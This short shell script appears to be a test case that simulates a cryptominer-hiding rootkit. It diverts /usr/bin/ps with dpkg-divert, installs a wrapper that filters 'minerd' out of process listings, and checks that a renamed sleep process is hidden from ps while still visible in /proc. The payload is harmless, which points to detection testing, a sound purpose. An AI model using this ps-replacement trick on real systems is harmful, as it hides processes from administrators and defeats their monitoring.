#!/bin/sh
. /opt/case/case.sh

dpkg-divert --local --rename --divert /usr/bin/.ps --add /usr/bin/ps >/dev/null 2>&1
printf '#!/bin/sh\n/usr/bin/.ps "$@" | grep -vE "minerd|\\.ps"\n' >/usr/bin/ps && chmod 755 /usr/bin/ps
cp /bin/sleep /tmp/minerd && /tmp/minerd 5 & hidden=$!
sleep 0.3
! ps ax | grep '[m]inerd'
test -d /proc/$hidden
took_place
